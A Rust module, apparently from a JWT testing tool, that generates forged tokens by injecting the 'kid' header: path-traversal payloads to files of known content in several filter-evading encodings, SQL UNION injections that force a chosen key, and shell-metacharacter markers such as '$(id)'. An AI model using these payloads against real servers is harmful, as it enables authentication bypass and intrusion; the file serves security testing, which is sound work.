//! The `kid` attacks: a server that reads `kid` as a file path, splices it into SQL, or
//! hands it to a shell verifies with a key the attacker chose. Each token is HMAC-signed
//! with the key the injected `kid` makes the server load.

use serde_json::Value;

use super::{hmac_token, Base};
/// Files every Linux machine has, whose content is known: the path from the root, and
/// the bytes. A server that strips what it reads keys with the content minus its
/// newline, so both are signed.
pub const KNOWN_FILES: &[(&str, &[u8])] = &[
    ("dev/null", b""),
    ("proc/sys/kernel/ostype", b"Linux\n"),
    ("proc/sys/kernel/domainname", b"(none)\n"),
];

/// The literal the SQL injections select as the key.
pub const SQLI_KEY: &[u8] = b"jot";

/// How deep the relative spellings climb: past the root of any likely key directory
/// (extra `../` at the root stay at the root, so one deep path serves every depth).
const DEPTH: usize = 10;

/// The spellings of one `../` step: plain, URL-encoded (for a filter that looks for `../`
/// before the path is decoded), backslashed (Windows), and doubled (a filter that removes
/// `../` once leaves `../`).
const STEPS: &[&str] = &["../", "..%2f", "%2e%2e%2f", "%2e%2e/", "..\\", "....//"];

fn signed(b: &Base, kid: &str, key: &[u8]) -> String {
    let hash = b.hmac_hash();
    let mut h = b.header_with_alg(hash.hmac_alg().name());
    h.insert("kid".into(), Value::String(kid.into()));
    hmac_token(&h, &b.payload_seg, hash, key)
}

/// The keys a server reading `content` may end up with: as read, and stripped.
fn contents(content: &'static [u8]) -> Vec<(&'static [u8], &'static str)> {
    let stripped = content.trim_ascii_end();
    if stripped.len() == content.len() {
        vec![(content, "")]
    } else {
        vec![(content, ""), (stripped, ", stripped")]
    }
}

/// `kid` naming a file of known content, absolutely and by each spelling of climbing
/// [`DEPTH`] levels; signed with the content as read and as stripped.
pub fn traversal(b: &Base, push: &mut impl FnMut(String, String)) {
    for (path, content) in KNOWN_FILES {
        for (key, how) in contents(content) {
            let shown = String::from_utf8_lossy(key).escape_debug().to_string();
            let secret = if key.is_empty() {
                "empty secret".to_string()
            } else {
                format!("secret \"{shown}\"{how}")
            };
            let kids = std::iter::once(format!("/{path}"))
                .chain(STEPS.iter().map(|s| format!("{}{path}", s.repeat(DEPTH))));
            for kid in kids {
                push(format!("kid {kid}, {secret}"), signed(b, &kid, key));
            }
        }
    }
}

/// `kid` whose UNION makes the key lookup return the literal `jot`.
pub fn sqli(b: &Base, push: &mut impl FnMut(String, String)) {
    for kid in [
        "x' UNION SELECT 'jot' -- ",
        "x\" UNION SELECT \"jot\" -- ",
        "0 UNION SELECT 'jot' -- ",
    ] {
        push(format!("kid {kid}"), signed(b, kid, SQLI_KEY));
    }
}

/// `kid` with shell metacharacters; harmless markers, judged blind.
pub fn cmdi(b: &Base, push: &mut impl FnMut(String, String)) {
    let orig = b.header.get("kid").and_then(Value::as_str).unwrap_or("key");
    for marker in ["|id", ";id", "$(id)", "`id`"] {
        let kid = format!("{orig}{marker}");
        push(format!("kid {kid}"), signed(b, &kid, b""));
    }
}
